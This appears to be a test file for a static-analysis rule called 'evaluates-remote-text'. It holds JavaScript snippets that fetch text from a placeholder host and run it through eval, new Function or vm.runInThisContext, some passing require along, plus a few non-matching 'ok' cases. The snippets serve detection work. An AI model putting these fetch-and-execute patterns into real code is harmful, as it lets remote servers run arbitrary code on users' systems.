https.get("https://example.invalid/raw/x", (response) => {
  response.on("data", (chunk) => {
    // ruleid: evaluates-remote-text
    eval(chunk);
  });
});

https.get({ host: "example.invalid" }, function (response) {
  let body = "";
  response.on("data", function (part) { body += part; });
  response.on("end", function () {
    // ruleid: evaluates-remote-text
    eval(body);
  });
});

async function awaited() {
  const answer = await fetch("https://example.invalid/x");
  const text = await answer.text();
  // ruleid: evaluates-remote-text
  new Function("require", text)(require);
}

axios.get(url).then((answer) => {
  // ruleid: evaluates-remote-text
  vm.runInThisContext(answer.data.cookie);
});

axios.post(url, facts).catch((error) => {
  // ruleid: evaluates-remote-text
  new Function.constructor("require", error.response.data)(require);
});

// ok: evaluates-remote-text
https.get(url, (response) => response.pipe(fs.createWriteStream("tool.tar.gz")));
// ok: evaluates-remote-text
fetch(url).then((answer) => JSON.parse(answer));
// ok: evaluates-remote-text
const load = eval("require");
